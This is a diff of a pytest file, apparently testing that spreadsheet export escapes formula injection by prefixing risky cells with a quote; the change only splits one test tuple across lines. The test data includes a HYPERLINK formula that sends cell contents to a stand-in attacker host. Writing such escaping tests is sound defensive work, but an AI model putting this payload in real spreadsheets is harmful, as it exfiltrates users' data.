@@ -42,7 +42,10 @@ def test_what_is_written_reads_back_exactly(rows):
 @pytest.mark.parametrize(
     ("value", "cell"),
     [
-        ('=HYPERLINK("http://evil.example/?c="&C2&D2,"Click for invoice")', '\'=HYPERLINK("http://evil.example/?c="&C2&D2,"Click for invoice")'),
+        (
+            '=HYPERLINK("http://evil.example/?c="&C2&D2,"Click for invoice")',
+            '\'=HYPERLINK("http://evil.example/?c="&C2&D2,"Click for invoice")',
+        ),
         ("+919876543210", "'+919876543210"),
         ("-2+3", "'-2+3"),
         ("@SUM(A1)", "'@SUM(A1)"),
